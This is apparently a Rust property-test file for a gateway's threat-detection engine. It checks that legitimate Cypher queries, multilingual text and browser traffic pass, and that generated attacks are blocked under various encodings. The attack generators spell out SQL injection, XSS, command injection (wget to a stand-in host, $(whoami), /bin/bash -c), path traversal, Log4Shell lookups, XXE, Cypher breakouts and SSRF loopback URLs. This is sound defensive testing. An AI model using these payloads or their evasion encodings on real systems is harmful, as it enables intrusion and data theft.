//! Accuracy of the shipped rules on traffic written for this test: honest requests of many kinds pass,
//! attack families are stopped under every mutation that keeps their meaning.
//!
//! Attacks are built from grammar and random names, so that no rule can know them.
#![cfg(test)]

use std::path::Path;
use std::sync::LazyLock;

use base64::Engine as _;
use http::{HeaderMap, HeaderValue};
use proptest::prelude::*;
use rg_gateway::policy::threat::{
    Engine, Hints, Inspect, Inspection, Kind, QueryClass, RuleFile, Verdict,
};

static ENGINE: LazyLock<Engine> = LazyLock::new(|| {
    let directory = Path::new(env!("CARGO_MANIFEST_DIR")).join("rules");
    let mut files: Vec<RuleFile> = std::fs::read_dir(directory)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .filter(|path| path.extension().is_some_and(|e| e == "yaml"))
        .map(|path| RuleFile {
            name: path.file_name().unwrap().to_string_lossy().into(),
            text: std::fs::read_to_string(&path).unwrap(),
        })
        .collect();
    files.sort_by(|a, b| a.name.cmp(&b.name));
    Engine::compile(&files, &[]).unwrap_or_else(|errors| panic!("{}", errors[0]))
});

fn inspect(
    path: &str,
    query: Option<&str>,
    headers: &[(&'static str, &str)],
    body: &[u8],
) -> Inspection {
    let mut map = HeaderMap::new();
    for (name, value) in headers {
        map.append(*name, HeaderValue::from_bytes(value.as_bytes()).unwrap());
    }
    ENGINE.inspect(&Inspect {
        method: if body.is_empty() { "GET" } else { "POST" },
        path,
        raw_path: path,
        query,
        headers: &map,
        body,
        hints: Hints {
            kind: Kind::Other,
            query_text: None,
            on_undecodable_refuse: true,
            ..Hints::default()
        },
    })
}

fn json(body: &serde_json::Value) -> Inspection {
    let body = serde_json::to_vec(body).unwrap();
    inspect(
        "/v1/things",
        None,
        &[("content-type", "application/json")],
        &body,
    )
}

fn as_note(text: &str) -> Inspection {
    json(&serde_json::json!({"op": "add", "note": text}))
}

fn as_statement(text: &str) -> Inspection {
    json(&serde_json::json!({"graph_id": "g", "query": text, "parameters": {}}))
}

fn as_query(value: &str) -> Inspection {
    inspect(
        "/v1/things",
        Some(&format!("page=1&word={}", percent(value))),
        &[],
        b"",
    )
}

fn stopped(inspection: &Inspection) -> bool {
    inspection.verdict == Verdict::Block || inspection.refused_as.is_some()
}

fn percent(text: &str) -> String {
    text.bytes().map(|b| format!("%{b:02X}")).collect()
}

#[test]
fn honest_statements_pass() {
    for text in [
        "MATCH (b:Book)-[:WRITTEN_BY]->(a:Author {name: $name}) RETURN b.title ORDER BY b.year DESC LIMIT 10",
        "MATCH (a:Author) WHERE a.name = 'O\\'Hara' OR a.name = \"D'Arcy\" RETURN a",
        "MATCH (a) WHERE a.x = a.y AND 1 = 1 RETURN count(*) AS n // don't cache",
        "/* weekly\n report */ MATCH (b:Book) WHERE b.title CONTAINS 'drop table' RETURN b",
        "MERGE (b:Book {isbn: $isbn}) ON CREATE SET b.at = timestamp() ON MATCH SET b.seen = b.seen + 1",
        "MATCH (b:Book) WHERE b.year < 1900 DETACH DELETE b",
        "UNWIND $rows AS row CREATE (b:Book) SET b += row",
        "MATCH p = shortestPath((a:Author {id: 1})-[*..8]-(b:Author {id: 2})) RETURN length(p)",
        "MATCH (r:Reply)-[:ANSWERS*0..]->(p:Post {id: $id}) RETURN count(r)",
        "MATCH (a:Author) RETURN a.name AS name UNION MATCH (e:Editor) RETURN e.name AS name",
        "RETURN true OR false AS x, null XOR true AS y",
        "CALL gds.pageRank.stream('books') YIELD nodeId, score RETURN nodeId, score LIMIT 5",
        "CREATE INDEX book_isbn IF NOT EXISTS FOR (b:Book) ON (b.isbn)",
        "CALL { MATCH (b:Book) RETURN b.year AS y } WITH y WHERE y > 1950 RETURN avg(y)",
        "MATCH (a:Author) WHERE EXISTS { (a)-[:WROTE]->(:Book) } RETURN a",
        "RETURN [x IN range(1, 100) WHERE x % 2 = 0 | x * x] AS squares",
        "MATCH (b:Book) WHERE b.title =~ '(?i)graph.*' RETURN b.title",
        "MATCH (`my node`:`Odd Label`) RETURN `my node`.`a.b`",
    ] {
        let inspection = as_statement(text);
        assert!(!stopped(&inspection), "{text}: {:?}", inspection.indicators);
        assert!(inspection.query.is_some(), "{text}");
    }
}

#[test]
fn plain_text_in_ten_languages_passes() {
    for text in [
        "Please select the best union of both lists, update the plan and drop the rest; it's fine -- really.",
        "Er sagte: \"Das war's\" -- und ging. 'Nein', oder doch?",
        "L'été, c'est l'heure d'aller à la plage; n'oublie pas l'eau!",
        "Mañana o pasado; ¿qué más da? \"Nada\", dijo O'Higgins.",
        "C'è un'altra idea: l'amico dell'oste -- e poi basta.",
        "Powiedział: 'tak' lub \"nie\"; a potem -- cisza.",
        "Он сказал: «да» или 'нет' -- не знаю; 1 или 2 = неважно.",
        "これは「テスト」です。いいえ、または はい -- どちらでも…",
        "قال: 'نعم' أو \"لا\" -- لا أعرف؛ ثم ذهب.",
        "यह केवल एक 'परीक्षण' है; कृपया \"अनदेखा\" करें -- धन्यवाद।",
        "5' 11\" tall, 50% off; today only! (2 for 1) = $5 & up",
        "Mother's day / Father's day sale: buy 1 or 2, get 3 = 50% off!",
        "See ../docs/index.md and ~/notes; cat videos, ping me later, echo chamber",
        "R&D; Rock 'n' roll; fish & chips; id;kind;size",
        "Dear {{name}}, you owe ${amount} -- see #12 @ann",
    ] {
        for inspection in [as_note(text), as_query(text)] {
            assert!(!stopped(&inspection), "{text}: {:?}", inspection.indicators);
        }
    }
}

#[test]
fn markdown_rich_text_and_code_pass() {
    for text in [
        "# Notes\n\n* Fixed `MATCH` planner\n* See [docs](https://docs.example.com/a?b=c#d)\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        "```sh\nls -la\ncurl https://example.com | sh\n```\nRun this, then `npm run build`.",
        "```cypher\nMATCH (n) WHERE n.a = 'x' OR n.b = 'y'\nRETURN n\n```\nThat's all.",
        "<h1>Agenda</h1><p>Hello <b>you</b>, see <a href=\"https://example.com/?a=1&amp;b=2\">this</a></p><img src=\"a.png\" alt=\"on it\">",
        "fn add(a: i32, b: i32) -> i32 { a + b }\nlet v: Vec<_> = s.split(',').map(str::trim).collect();",
        "for i in range(10):\n    print(f\"{i} -> {i * i}\")\nimport os\nprint(os.environ.get('HOME'))",
        "const sum = (a, b) => a + b;\nif (x > 0 && y < 1) { return 'a' || b; }",
        ".btn:hover { color: red; content: \"x\"; }\nnpm run build && npm test",
        "public static void main(String[] args) { System.out.println(\"hi\"); }",
    ] {
        let inspection = as_note(text);
        assert!(!stopped(&inspection), "{text}: {:?}", inspection.indicators);
    }
}

#[test]
fn browser_traffic_passes() {
    let headers = [
        (
            "user-agent",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
        ),
        (
            "accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8",
        ),
        ("accept-language", "en-US,en;q=0.9,de;q=0.7"),
        (
            "referer",
            "https://www.example.com/search?q=select+vs+match&hl=en",
        ),
        (
            "cookie",
            "sid=9f86d081884c7d659a2feaa0c55ad015; theme=dark; prefs=%7B%22tz%22%3A%22Europe%2FBerlin%22%7D",
        ),
        ("if-none-match", "W/\"5e15153d-120f\""),
        (
            "sec-ch-ua",
            "\"Chromium\";v=\"126\", \"Not.A/Brand\";v=\"24\"",
        ),
    ];
    for (path, query) in [
        (
            "/v1/graphs/books/nodes",
            "ids=1,2,3&sort=-created_at,name&filter=age%3E%3D18",
        ),
        (
            "/v1/search",
            "q=graph+databases&utm_source=mail&fbclid=IwAR1dug0BYxe0ukhZ2vKrdQ--Q2Y7",
        ),
        (
            "/v1/files/reports/2024/q1/summary.pdf",
            "v=1.2.3&t=1718000000",
        ),
        (
            "/v1/events",
            "d=eyJhIjoxLCJiIjpbMSwyXX0%3D&r=https%3A%2F%2Fexample.com%2Fpath%3Fx%3D1",
        ),
    ] {
        let inspection = inspect(path, Some(query), &headers, b"");
        assert!(
            !stopped(&inspection),
            "{path}?{query}: {:?}",
            inspection.indicators
        );
    }
}

#[test]
fn a_statement_is_classified_and_costed() {
    let facts = as_statement("MATCH (b:Book {isbn: $isbn}) SET b.read = true")
        .query
        .unwrap();
    assert_eq!(facts.class, QueryClass::Write);
    assert_eq!(facts.statements, 1);
    assert!(facts.complexity < 6.0);
}

#[test]
fn bodies_that_cannot_be_read_are_refused() {
    let json = [("content-type", "application/json")];
    assert_eq!(
        inspect("/v1/x", None, &json, b"{\"a\":")
            .refused_as
            .unwrap()
            .status,
        400
    );
    let wide = [("content-type", "application/json; charset=utf-16")];
    assert_eq!(
        inspect("/v1/x", None, &wide, b"{}")
            .refused_as
            .unwrap()
            .status,
        415
    );
    let odd = [("content-encoding", "compress")];
    assert_eq!(
        inspect("/v1/x", None, &odd, b"x")
            .refused_as
            .unwrap()
            .status,
        415
    );
}

#[test]
fn a_bound_that_is_hit_is_an_indicator() {
    let inspection = inspect(
        "/v1/x",
        None,
        &[("content-type", "application/json")],
        "[".repeat(80).as_bytes(),
    );
    assert_eq!(inspection.bounds[0].bound, "bound.json_depth");
    assert!(
        inspection
            .indicators
            .iter()
            .any(|i| i.indicator_type.as_ref() == "INSPECTION_BOUND")
    );
}

#[test]
fn an_indicator_names_rule_place_and_decoded_excerpt() {
    let inspection = json(&serde_json::json!({"items": [{"note": "x%27%20or%20%279%27=%279"}]}));
    let indicator = inspection
        .indicators
        .iter()
        .find(|i| i.rule.as_ref() == "sql-condition")
        .unwrap();
    assert_eq!(indicator.field, "$.items[0].note");
    assert!(
        indicator.excerpt.contains("x' or '9'='9"),
        "{}",
        indicator.excerpt
    );
}

/// How a value may be disguised without losing its meaning to the server behind.
#[derive(Clone, Copy, Debug)]
enum Disguise {
    None,
    Percent,
    PercentTwice,
    PercentU,
    Entities,
    JsonEscapes,
    Fullwidth,
    Base64,
}

impl Disguise {
    const ALL: [Self; 8] = [
        Self::None,
        Self::Percent,
        Self::PercentTwice,
        Self::PercentU,
        Self::Entities,
        Self::JsonEscapes,
        Self::Fullwidth,
        Self::Base64,
    ];

    fn apply(self, text: &str) -> String {
        match self {
            Self::None => text.to_owned(),
            Self::Percent => percent(text),
            Self::PercentTwice => percent(&percent(text)),
            Self::PercentU => text
                .chars()
                .map(|c| format!("%u{:04x}", u32::from(c)))
                .collect(),
            Self::Entities => text
                .chars()
                .map(|c| format!("&#x{:x};", u32::from(c)))
                .collect(),
            Self::JsonEscapes => text
                .chars()
                .map(|c| format!("\\u{:04x}", u32::from(c)))
                .collect(),
            Self::Fullwidth => text
                .chars()
                .map(|c| match c {
                    '!'..='~' => char::from_u32(u32::from(c) + 0xfee0).unwrap(),
                    other => other,
                })
                .collect(),
            Self::Base64 => base64::engine::general_purpose::STANDARD_NO_PAD.encode(text),
        }
    }
}

fn disguise() -> impl Strategy<Value = Disguise> {
    proptest::sample::select(Disguise::ALL.to_vec())
}

/// Letters in random case.
fn cased(text: &str, bits: u64) -> String {
    text.chars()
        .enumerate()
        .map(|(i, c)| {
            if bits >> (i % 64) & 1 == 1 {
                c.to_ascii_uppercase()
            } else {
                c
            }
        })
        .collect()
}

fn must_stop(value: &str, disguise: Disguise) -> Result<(), TestCaseError> {
    let worn = disguise.apply(value);
    prop_assert!(
        stopped(&as_note(&worn)),
        "note {disguise:?} {value:?} as {worn:?}"
    );
    prop_assert!(
        stopped(&as_query(&worn)),
        "query {disguise:?} {value:?} as {worn:?}"
    );
    Ok(())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn sql_injections_are_stopped(
        form in 0_usize..8, n in 2_u32..9_999, name in "[a-z]{4,9}", quote in "['\"]",
        blank in proptest::sample::select(vec![" ", "  ", "/**/", "\t", "/*z*/"]), bits in any::<u64>(), disguise in disguise(),
    ) {
        let text = match form {
            0 => format!("{name}{quote} or {n}={n} -- "),
            1 => format!("{n} union all select {n},null,{name} from {name}s"),
            2 => format!("{name}{quote}) and ({quote}{name}{quote}={quote}{name}"),
            3 => format!("{n} and {n}={n}"),
            4 => format!("{n}; drop table {name} -- "),
            5 => format!("{name}{quote} and sleep({n})="),
            6 => format!("{n} and (select count(*) from {name})>{n}"),
            _ => format!("{name}{quote}||{quote}{name}{quote}||{quote}"),
        };
        must_stop(&cased(&text, bits).replace(' ', blank), disguise)?;
    }

    #[test]
    fn scripts_are_stopped(
        form in 0_usize..7, name in "[a-z]{3,8}", tag in "(img|b|video|details|input)", event in "(load|error|click|focus|toggle)",
        blank in proptest::sample::select(vec![" ", "/", "\n", "\t"]), bits in any::<u64>(), disguise in disguise(),
    ) {
        let text = match form {
            0 => format!("<script>{name}()</script>"),
            1 => format!("<{tag}{blank}on{event}={name}()>"),
            2 => format!("<a{blank}href=\"javascript:{name}()\">{name}</a>"),
            3 => format!("\" on{event}=\"{name}()"),
            4 => format!("<iframe{blank}src=//{name}.example>"),
            5 => format!("<svg{blank}on{event}={name}`1`>"),
            _ => format!("';alert({})//{name}", name.len()),
        };
        must_stop(&cased(&text, bits), disguise)?;
    }

    #[test]
    fn commands_and_paths_are_stopped(
        form in 0_usize..7, name in "[a-z]{4,8}", depth in 2_usize..9, disguise in disguise(),
    ) {
        let text = match form {
            0 => format!("; wget http://{name}.example/{name}"),
            1 => "$(whoami)".to_owned(),
            2 => format!("{name} | cat /etc/{name}"),
            3 => format!("{}{name}/{name}.conf", "../".repeat(depth)),
            4 => format!("{}{name}.ini", "..\\".repeat(depth)),
            5 => "/etc/passwd".to_owned(),
            _ => format!("{name}&& /bin/bash -c {name}"),
        };
        must_stop(&text, disguise)?;
    }

    #[test]
    fn templates_lookups_and_entities_are_stopped(
        form in 0_usize..6, name in "[a-z]{4,8}", a in 2_u32..99, b in 2_u32..99, disguise in disguise(),
    ) {
        let text = match form {
            0 => format!("{{{{{a}*{b}}}}}"),
            1 => format!("{{{{{name}.__class__.__mro__}}}}"),
            2 => format!("${{jndi:ldap://{name}.example/{name}}}"),
            3 => format!("${{${{lower:j}}ndi:rmi://{name}.example}}"),
            4 => format!("<!DOCTYPE {name} [<!ENTITY {name} SYSTEM \"file:///{name}\">]><{name}/>"),
            _ => format!("<%= {a} * {b} %>"),
        };
        must_stop(&text, disguise)?;
    }

    #[test]
    fn cypher_breakouts_are_stopped(
        form in 0_usize..7, name in "[a-z]{4,8}", label in "[A-Z][a-z]{3,7}", n in 1_u32..999, quote in "['\"]",
        blank in proptest::sample::select(vec![" ", "\t", "\n", "/**/"]), bits in any::<u64>(), disguise in disguise(),
    ) {
        // Only keywords may change their case.
        let or = cased("or", bits);
        let ret = cased("return", bits);
        let text = match form {
            0 => format!("{name}{quote} {or} {n}={n} //"),
            1 => format!("{name}{quote}}}) {ret} x //"),
            2 => format!("{name}{quote} WITH 1 AS q MATCH (u:{label}) DETACH DELETE u //"),
            3 => format!("{label})-[]-(x"),
            4 => format!("{name}{quote} {ret} 1 AS x UNION MATCH (u:{label}) {ret} u.{name} AS x //"),
            5 => format!("{name}{quote} SET u.{name} = {quote}{name}{quote} {ret} u //"),
            _ => format!("{name}{quote} CALL db.labels() YIELD label {ret} label //"),
        };
        must_stop(&text.replace(' ', blank), disguise)?;
    }

    #[test]
    fn abusive_statements_are_stopped(
        form in 0_usize..7, name in "[a-z]{4,8}", label in "[A-Z][a-z]{3,7}", n in 8_u32..15,
        blank in proptest::sample::select(vec![" ", "\t", "\n", "/**/", " /* c */ ", "\u{2003}"]), bits in any::<u64>(),
    ) {
        let text = match form {
            0 => format!("{} {} {} 'http://{name}.example/' AS l RETURN l", cased("load", bits), cased("csv", bits >> 8), cased("from", bits >> 16)),
            1 => format!("CALL apoc.load.{name}('x') YIELD value RETURN value"),
            2 => format!("{} DATABASE {name}", cased("drop", bits)),
            3 => format!("MATCH (u:{label}) WHERE u.{name} = '' OR {n}={n} RETURN u"),
            4 => format!("UNWIND range(1, 1e{n}) AS i CREATE (:{label} {{i: i}})"),
            5 => "MATCH (a)-[*]-(b) RETURN a, b".to_owned(),
            _ => format!("MATCH (u:{label} {{{name}: 'x'}}) RETURN u //'}}) RETURN u"),
        };
        let text = text.replace(' ', blank);
        prop_assert!(stopped(&as_statement(&text)), "{text:?}");
    }

    #[test]
    fn internal_addresses_are_stopped(host in 0_u32..0x00ff_ffff, form in 0_usize..6, key in "(callback|source_url|webhook)") {
        let ip = 0x7f00_0000 | host;
        let [a, b, c, d] = ip.to_be_bytes();
        let text = match form {
            0 => format!("http://{a}.{b}.{c}.{d}/"),
            1 => format!("http://{ip}/"),
            2 => format!("https://{ip:#x}:8443/x"),
            3 => format!("http://[::ffff:{a}.{b}.{c}.{d}]/"),
            4 => format!("http://x@{a}.{b}.{c}.{d}:80/"),
            _ => format!("http://0{a:o}.0{b:o}.0{c:o}.0{d:o}/"),
        };
        prop_assert!(stopped(&json(&serde_json::json!({key: text}))), "{text}");
    }

    #[test]
    fn no_request_panics(path in "/[ -~]{0,40}", query in "[ -~]{0,80}", body in proptest::collection::vec(any::<u8>(), 0..200),
        kind in proptest::sample::select(vec!["application/json", "multipart/form-data; boundary=b", "text/xml", "text/csv", "application/x-www-form-urlencoded", ""])) {
        let _ = inspect(&path, Some(&query), &[("content-type", kind)], &body);
    }
}
